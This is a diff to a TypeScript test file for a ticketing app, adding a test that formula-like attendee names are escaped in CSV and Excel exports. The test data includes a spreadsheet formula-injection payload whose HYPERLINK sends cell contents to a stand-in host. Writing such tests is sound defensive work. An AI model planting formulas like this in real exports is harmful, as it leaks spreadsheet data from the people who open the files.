@@ -7,7 +7,9 @@ import { listOrganizerBookings } from "~/modules/ticketing/list-organizer-bookin
 import { getOrganizerBookingView } from "~/modules/ticketing/organizer-booking-view.server";
 import { organizerBookingsList } from "~/modules/ticketing/organizer-bookings-list";
 import { resendTicketEmail } from "~/modules/ticketing/resend-ticket-email.server";
-import { csvExportStream } from "~/ui/back-office/export.server";
+import ExcelJS from "exceljs";
+import { bookingAttendees } from "~/modules/ticketing/schema";
+import { csvExportStream, xlsxExportResponse } from "~/ui/back-office/export.server";
 import { parseListParams } from "~/lib/list/list-spec";
 import { bookEvent, makeOrganizer, makeOrganizerEvent } from "../../../tests/factories/organizers";
 import { setupTestDb } from "../../../tests/setup/db";
@@ -127,4 +129,25 @@ describe("organizer bookings", () => {
     expect(mine).toHaveLength(2);
     expect(mine[0]).toEqual([expect.stringMatching(/^SP-/), "Erika", expect.stringMatching(/^Gast \d$/), "Stehplatz", b1.bookingReference, b1.buyer.email, "Bestätigt", "ja", "nein", "", expect.stringMatching(/^\d{2}\.\d{2}\.\d{4}$/), "15,00"]);
   });
+
+  it("neutralises attendee names that start like a formula in CSV and Excel (issue 21 finding 5)", async () => {
+    const org = await makeOrganizer();
+    const event = await makeOrganizerEvent(org, { title: "Formelfest" });
+    const b = await bookEvent(event, 2);
+    const [a1, a2] = await db.select().from(bookingAttendees).where(eq(bookingAttendees.bookingId, b.bookingId));
+    await db.update(bookingAttendees).set({ firstName: '=HYPERLINK("http://x.example/?d="&A1,"klick")', lastName: "-1+1" }).where(eq(bookingAttendees.id, a1!.id));
+    await db.update(bookingAttendees).set({ firstName: "\tTab", lastName: "@Gast" }).where(eq(bookingAttendees.id, a2!.id));
+    const text = await readAll(csvExportStream(await attendeeExport({ actor: org.actor, eventId: event.id })));
+    const rows = text.slice(1).trim().split("\r\n").slice(1);
+    expect(rows.some((r) => r.includes(`;"'=HYPERLINK(""http://x.example/?d=""&A1,""klick"")";'-1+1;`))).toBe(true);
+    expect(rows.some((r) => r.includes(`;'\tTab;'@Gast;`))).toBe(true);
+
+    const xlsx = xlsxExportResponse({ ...(await attendeeExport({ actor: org.actor, eventId: event.id })), filename: "x.xlsx", sheetName: "Teilnehmer" });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as unknown as ArrayBuffer);
+    const names = wb.getWorksheet("Teilnehmer")!.getSheetValues().slice(2).map((r) => (r as unknown[]).slice(2, 4));
+    expect(names).toContainEqual([`'=HYPERLINK("http://x.example/?d="&A1,"klick")`, "'-1+1"]);
+    expect(names).toContainEqual(["'\tTab", "'@Gast"]);
+  });
 });
+
